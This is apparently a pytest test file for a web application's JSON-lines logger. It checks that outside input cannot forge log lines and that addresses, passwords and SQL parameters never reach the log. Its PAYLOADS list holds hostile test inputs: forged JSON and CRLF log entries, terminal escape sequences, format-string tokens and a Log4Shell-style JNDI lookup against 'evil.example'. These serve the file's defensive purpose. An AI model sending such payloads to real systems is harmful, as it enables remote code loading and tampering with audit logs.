"""The log: one line of JSON for each event, whoever sends what, and nobody's address or password in it."""

import io
import json
import logging
import secrets
from collections.abc import Iterator

import pytest
from sqlalchemy import text as sql

from tests.web.site import PASSWORD, Site
from tracker.domain.people import Role
from tracker.web.logs import JsonLines

PAYLOADS = (
    'a\n{"level": "INFO", "message": "signed in", "person_id": 1}',
    "a\r\nINFO signed in",
    "a\rINFO signed in",
    "a\x0bINFO",
    "a\x0cINFO",
    "a\x1cINFO",
    "a\x1dINFO",
    "a\x1eINFO",
    "a\x85INFO",
    "a\u2028INFO",
    "a\u2029INFO",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31mred",
    "\x08\x08\x08\x08hidden",
    "a\x00b",
    "\x7f\x7f",
    '"}\n{"level": "CRITICAL"',
    "\\n\\u001b[0m",
    "\u202eesrever",
    "%s %d %(name)s {0} ${x}",
    "${jndi:ldap://evil.example/a}",
)


@pytest.fixture
def lines() -> Iterator[io.StringIO]:
    """What the application writes to its log, as its own formatter writes it."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(JsonLines())
    logger = logging.getLogger("tracker")
    logger.addHandler(handler)
    yield stream
    logger.removeHandler(handler)


def entries(stream: io.StringIO) -> list[dict[str, object]]:
    """Read the log as a machine would: every line is a whole entry and nothing but printable ASCII."""
    text = stream.getvalue()
    assert all(" " <= sign <= "~" or sign == "\n" for sign in text)
    return [json.loads(line) for line in text.splitlines()]


def test_at_least_twenty_payloads_are_tried() -> None:
    assert len(set(PAYLOADS)) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_from_outside_begins_no_line_of_its_own(lines: io.StringIO, payload: str) -> None:
    log = logging.getLogger("tracker.test")
    log.warning("message with %s", payload, extra={"host": payload})
    log.warning(payload)  # noqa: G010, RUF100 - the worst a careless line could do
    found = entries(lines)
    assert len(found) == 2
    assert found[0]["host"] == payload
    assert found[1]["message"] == payload


def test_a_plain_log_would_have_been_broken_into() -> None:
    """The negative control: the same payload through an ordinary formatter makes two lines."""
    record = logging.makeLogRecord({"msg": PAYLOADS[0]})
    assert len(logging.Formatter("%(message)s").format(record).splitlines()) == 2


def test_requests_with_payloads_leave_a_line_each(site: Site, lines: io.StringIO) -> None:
    client = site.browser()
    token = site.token(client)
    for payload in PAYLOADS:
        sendable = payload.encode().decode("latin-1").replace("\r", "").replace("\n", "")
        client.post("/min-side/oplysninger", headers={"Origin": sendable})
        client.get("/log-ind", headers={"Host": sendable})
        client.get("/log-ind/" + payload, query_string={"a": payload})
        client.post("/log-ind", data={"csrf_token": token, "email": payload[:200], "password": ""})
    found = entries(lines)
    assert len(found) == 2 * len(PAYLOADS)
    assert {entry["message"] for entry in found} == {"foreign sender", "foreign host"}


def test_who_was_denied_what_is_logged_by_id(site: Site, lines: io.StringIO) -> None:
    reader = site.people[Role.READER]
    site.browser(reader).get("/administration/personer")
    (entry,) = entries(lines)
    assert entry.pop("at")
    assert entry == {
        "level": "WARNING",
        "logger": "tracker.web.access",
        "message": "access denied",
        "person_id": reader,
        "endpoint": "people.person_list",
        "method": "GET",
    }


def test_no_address_name_or_password_reaches_the_log(site: Site, lines: io.StringIO) -> None:
    client = site.browser()
    for password in (PASSWORD, "en forkert adgangskode"):
        form = {"csrf_token": site.token(client), "email": "reader@example.org", "password": password}
        client.post("/log-ind", data=form)
    site.app.view_functions["people.my_page"] = broken
    site.browser(site.people[Role.READER]).get("/min-side?navn=reader@example.org")
    text = lines.getvalue()
    assert len(entries(lines)) == 3
    assert "example.org" not in text
    assert "adgangskode" not in text
    assert PASSWORD.split()[1] not in text


def broken() -> str:
    raise ZeroDivisionError


def test_a_fault_is_logged_under_the_number_that_its_page_shows(site: Site, lines: io.StringIO) -> None:
    site.app.view_functions["people.my_page"] = broken
    page = site.browser(site.everything).get("/min-side").text
    (entry,) = entries(lines)
    assert str(entry["error_id"]) in page
    assert entry["person_id"] == site.everything
    assert "ZeroDivisionError" in str(entry["traceback"])
    assert "ZeroDivisionError" not in page
    assert "Traceback" not in page


def test_what_was_being_written_is_not_in_the_log_of_a_database_error(site: Site, lines: io.StringIO) -> None:
    secret = secrets.token_hex(8)

    def failing() -> str:
        with site.database.reading() as session:
            session.execute(sql("SELECT :secret FROM nowhere"), {"secret": secret})
        return ""

    site.app.view_functions["people.my_page"] = failing
    assert site.browser(site.everything).get("/min-side").status_code == 500
    assert secret not in lines.getvalue()
    assert "nowhere" in lines.getvalue()
